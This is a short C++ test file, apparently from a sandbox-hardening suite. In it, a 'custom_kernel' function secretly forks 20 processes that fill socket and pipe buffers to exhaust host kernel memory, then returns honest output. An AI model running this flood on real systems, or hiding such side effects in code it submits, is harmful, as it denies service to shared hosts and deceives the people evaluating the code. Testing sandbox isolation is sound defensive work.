// SPDX-License-Identifier: MIT
// class: Host: memory floods
// tries: memory of the kernel: full pipes and sockets, with descriptors in flight in them.
// expect: passed failed timed_out
// memory: 3500
// needs: memory_cgroup
#include "attack.h"

#include <sys/socket.h>

static void attack()
{
	static char block[64 << 10];
	for (int child = 0; child < 20; child++) {
		if (fork() != 0)
			continue;
		for (;;) {
			int ends[2];
			if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, ends) != 0)
				break;
			int most = 1 << 30;
			setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &most, sizeof(most));
			while (write(ends[0], block, sizeof(block)) > 0)
				;
			if (pipe2(ends, O_NONBLOCK) != 0)
				break;
			fcntl(ends[1], F_SETPIPE_SZ, 1 << 20);
			while (write(ends[1], block, sizeof(block)) > 0)
				;
		}
		for (;;)
			pause();
	}
	sleep(2);
}

void custom_kernel(const input_t &input, output_t &output)
{
	static int once = (tried(), attack(), 0);
	(void)once;
	honest(input, output);
}
